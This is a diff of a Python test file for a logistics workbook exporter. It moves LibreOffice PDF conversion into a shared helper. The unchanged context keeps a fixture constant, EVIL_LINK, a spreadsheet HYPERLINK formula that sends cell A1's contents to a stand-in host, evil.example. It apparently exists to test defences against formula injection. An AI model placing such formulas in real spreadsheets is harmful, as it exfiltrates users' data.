@@ -3,8 +3,6 @@
 from __future__ import annotations
 
 import datetime as dt
-import shutil
-import subprocess
 import zipfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -26,6 +24,7 @@ from logistics.export import (
 from logistics.reader import read_workbook
 from logistics.xlsx import TABLE_NAME_RE, safe_text
 from models.results import TABLE_COLUMNS, Plan, SolveStatus
+from tests.libreoffice import convert_to_pdf
 
 EVIL_LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 CONTRACT_SHEETS = {
@@ -769,38 +768,10 @@ def test_plan_table_missing_a_contract_column_is_refused(
 # --------------------------------------------------------------------------------------------------
 
 
-def _soffice() -> str:
-    found = shutil.which("soffice") or shutil.which("libreoffice")
-    if found is None:
-        pytest.skip("LibreOffice (soffice) is not installed; install libreoffice-calc-nogui")
-    return found
-
-
 @pytest.mark.parametrize("which", ["plan", "no_plan"])
 def test_libreoffice_converts_the_workbook(
     which: str, workbook_path: Path, no_plan_path: Path, tmp_path: Path
 ) -> None:
-    soffice = _soffice()
     source = workbook_path if which == "plan" else no_plan_path
-    out = tmp_path / "pdf"
-    result = subprocess.run(
-        [
-            soffice,
-            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
-            "--headless",
-            "--convert-to",
-            "pdf",
-            "--outdir",
-            str(out),
-            str(source),
-        ],
-        capture_output=True,
-        text=True,
-        timeout=240,
-        check=False,
-    )
-    assert result.returncode == 0, result.stderr
-    pdf = out / f"{source.stem}.pdf"
-    assert pdf.exists(), result.stdout + result.stderr
-    assert pdf.read_bytes().startswith(b"%PDF")
+    pdf = convert_to_pdf(source, tmp_path)
     assert pdf.stat().st_size > 10_000
